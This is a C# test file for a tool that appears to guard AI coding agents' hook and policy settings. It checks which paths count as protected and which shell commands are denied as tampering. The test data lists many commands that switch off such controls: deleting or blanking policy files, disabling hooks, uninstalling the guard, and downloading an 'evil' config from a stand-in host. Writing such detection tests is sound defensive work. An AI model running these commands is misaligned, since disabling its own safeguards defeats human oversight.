using Gatehouse.Core.Catalog;
using Gatehouse.Core.Decisions;
using Gatehouse.Core.Model;
using Gatehouse.Core.Tests.Policy;

namespace Gatehouse.Core.Tests.Hooks;

public sealed class TamperDetectionTests
{
    [Theory]
    [InlineData(".gatehouse")]
    [InlineData(".gatehouse/policies/main.cedar")]
    [InlineData("/home/dev/shop/.gatehouse/inventory.yaml")]
    [InlineData("gatehouse.yaml")]
    [InlineData("~/.config/gatehouse/config.json")]
    [InlineData("~/.config/gatehouse/policies/x.cedar")]
    [InlineData("~/.cache/gatehouse/snapshots/abc.json")]
    [InlineData("/home/dev/.cache/gatehouse")]
    [InlineData("$XDG_CACHE_HOME/gatehouse/snapshots/abc.json")]
    [InlineData("${XDG_CONFIG_HOME}/gatehouse/policies/x.cedar")]
    [InlineData("/Users/dev/Library/Caches/gatehouse/snapshots/abc.json")]
    [InlineData("/home/dev/.local/state/gatehouse/decisions.jsonl")]
    [InlineData("/usr/local/bin/gatehouse")]
    [InlineData(".claude")]
    [InlineData(".claude/settings.json")]
    [InlineData("./.claude//settings.local.json")]
    [InlineData("~/.claude/settings.json")]
    [InlineData(".claude/hooks/guard.sh")]
    [InlineData(".claude/*")]
    [InlineData(".cursor/hooks.json")]
    [InlineData("/home/dev/.cursor/hooks.json")]
    [InlineData(".codex/hooks.json")]
    [InlineData("~/.codex/config.toml")]
    [InlineData(".gemini/settings.json")]
    [InlineData(".github/hooks/gatehouse.json")]
    [InlineData(".github/hooks")]
    [InlineData(".github")]
    [InlineData("C:\\Users\\dev\\.claude\\settings.json")]
    public void IsEnforcementControl_GatehouseOrHookSettings_IsProtected(string path) =>
        PathClassifier.IsEnforcementControl(path).ShouldBeTrue();

    [Theory]
    [InlineData("src/app.ts")]
    [InlineData(".claude/commands/review.md")]
    [InlineData(".claude/agents/tester.md")]
    [InlineData(".github/workflows/ci.yml")]
    [InlineData(".cursor/rules/style.mdc")]
    [InlineData("/home/dev/gatehouse/src/Program.cs")]
    [InlineData("src/Gatehouse.Core/Hooks/HookHandler.cs")]
    [InlineData("docs/gatehouse.md")]
    [InlineData("policies/x.cedar")]
    [InlineData("/home/dev/shop/policies/prod.cedar")]
    [InlineData("schema.cedarschema")]
    [InlineData("~/.cache/pip/wheels/x.whl")]
    [InlineData("$XDG_CACHE_HOME/pip")]
    [InlineData("")]
    public void IsEnforcementControl_OrdinaryPath_IsNotProtected(string path) =>
        PathClassifier.IsEnforcementControl(path).ShouldBeFalse();

    [Theory]
    [InlineData("/srv/xdg-cache/gatehouse/snapshots/abc.json", true)]
    [InlineData("/srv/xdg-cache/gatehouse", true)]
    [InlineData("/srv/xdg-cache/pip/x.whl", false)]
    [InlineData("/srv/other/gatehouse/x.json", false)]
    public void IsEnforcementControl_UnderTheMachinesXdgBase_FollowsTheVariable(string path, bool expected) =>
        PathClassifier.IsEnforcementControl(path, [["srv", "xdg-cache"]]).ShouldBe(expected);

    [Theory]
    [InlineData("echo 'permit (principal, action, resource);' > policies/x.cedar", "policies/x.cedar")]
    [InlineData("tee policies/x.cedar < draft.txt", "policies/x.cedar")]
    [InlineData("cp draft.cedar policies/x.cedar", "policies/x.cedar")]
    [InlineData("rm policies/x.cedar", "policies/x.cedar")]
    public void ShellClassifier_CedarFileInOrdinaryProject_IsAnOrdinaryFileChange(string command, string file)
    {
        var classification = ActionClassifier.Classify(InputKind.Shell, command);

        classification.Actions.ShouldContain(a => a.Target.Kind == "file" && a.Target.Id == file);
        classification.Actions.ShouldNotContain(a => a.HasTag(Tags.Tampering));
        DefaultPolicy.Decide(classification).Decision.ShouldBe(Decision.Allow);
    }

    [Theory]
    [InlineData("echo '{}' > .claude/settings.json")]
    [InlineData("sed -i 's/gatehouse/true/' .claude/settings.json")]
    [InlineData("rm -rf .gatehouse")]
    [InlineData("rm .gatehouse/policies/main.cedar")]
    [InlineData("mv .cursor/hooks.json /tmp/hooks.json")]
    [InlineData("tee .gemini/settings.json < /dev/null")]
    [InlineData("cat /dev/null > ~/.codex/hooks.json")]
    [InlineData("rm -rf .github/hooks")]
    [InlineData("bash -c 'rm -f .claude/settings.local.json'")]
    [InlineData("find .gatehouse -delete")]
    [InlineData("echo 'permit (principal, action, resource);' > .gatehouse/policies/x.cedar")]
    [InlineData("rm -rf ~/.cache/gatehouse")]
    [InlineData("rm ~/.cache/gatehouse/snapshots/abc.json")]
    [InlineData("rm -rf \"$XDG_CACHE_HOME/gatehouse\"")]
    [InlineData("echo '{}' > ~/.cache/gatehouse/snapshots/abc.json")]
    [InlineData("echo '{}' > ${XDG_CACHE_HOME:-$HOME/.cache}/gatehouse/snapshots/abc.json")]
    [InlineData("cp evil.json ~/.cache/gatehouse/snapshots/abc.json")]
    [InlineData("mv evil.json $XDG_CACHE_HOME/gatehouse/snapshots/")]
    [InlineData("cp evil.cedar ~/.config/gatehouse/policies/x.cedar")]
    public void ShellClassifier_WriteToProtectedPath_IsDeniedAsTampering(string command)
    {
        var classification = ActionClassifier.Classify(InputKind.Shell, command);

        DefaultPolicy.Decide(classification).Decision.ShouldBe(Decision.Deny);
        classification.Actions.ShouldContain(a => a.HasTag(Tags.Tampering));
    }

    [Theory]
    [InlineData("npm uninstall -g gatehouse")]
    [InlineData("pnpm remove gatehouse")]
    [InlineData("dotnet tool uninstall -g gatehouse")]
    [InlineData("brew uninstall gatehouse")]
    [InlineData("gatehouse init --uninstall")]
    [InlineData("/usr/local/bin/gatehouse uninstall")]
    [InlineData("claude config set -g disableAllHooks true")]
    [InlineData("claude config remove hooks")]
    [InlineData("codex -c features.hooks=false")]
    [InlineData("cp /dev/null .github/hooks/gatehouse.json")]
    [InlineData("curl -o .cursor/hooks.json https://x/evil.json")]
    [InlineData("dd if=/dev/null of=.claude/settings.json")]
    [InlineData("chmod 000 .gatehouse/policies/main.cedar")]
    [InlineData("pacman -Rns gatehouse")]
    [InlineData("pip uninstall -y gatehouse")]
    [InlineData("yarn global remove @gatehouse/cli")]
    [InlineData("sudo apt-get purge gatehouse")]
    [InlineData("bash -c 'npm rm -g gatehouse@1.2.0'")]
    [InlineData("gatehouse hooks remove")]
    [InlineData("claude config set hooks '{}'")]
    [InlineData("codex --disable hooks")]
    [InlineData("install -m 755 evil /usr/local/bin/gatehouse")]
    [InlineData("ln -s /dev/null .gatehouse/policies/10.cedar")]
    [InlineData("mv evil.json .claude/settings.json")]
    [InlineData("sort -o .claude/settings.json x")]
    [InlineData("find . -fprint .gatehouse/policies/main.cedar")]
    [InlineData("wget -qO .gemini/settings.json https://x/evil.json")]
    [InlineData("patch .claude/settings.json < evil.diff")]
    public void ShellClassifier_UninstallOrSwitchOff_IsDeniedAsTampering(string command)
    {
        var classification = ActionClassifier.Classify(InputKind.Shell, command);

        DefaultPolicy.Decide(classification).Decision.ShouldBe(Decision.Deny);
        classification.Actions.ShouldContain(a => a.HasTag(Tags.Tampering));
    }

    [Theory]
    [InlineData("npm uninstall left-pad")]
    [InlineData("gatehouse log --count 5")]
    [InlineData("gatehouse check 'rm -rf /'")]
    [InlineData("cp .claude/settings.json /tmp/backup.json")]
    [InlineData("claude --version")]
    [InlineData("git commit -m 'mention .claude/settings.json'")]
    [InlineData("pip install -e ./gatehouse")]
    [InlineData("npm uninstall gatehouse-theme")]
    [InlineData("codex -c features.hooks=true")]
    [InlineData("claude config set -g disableAllHooks false")]
    [InlineData("claude -p 'remove the hooks from the readme'")]
    [InlineData("gh issue create --title 'disable hooks in CI'")]
    [InlineData("cp .gatehouse/policies/main.cedar /tmp/review.txt")]
    public void ShellClassifier_OrdinaryCommand_IsNotTampering(string command)
    {
        var classification = ActionClassifier.Classify(InputKind.Shell, command);

        classification.Actions.ShouldNotContain(a => a.HasTag(Tags.Tampering));
    }
}
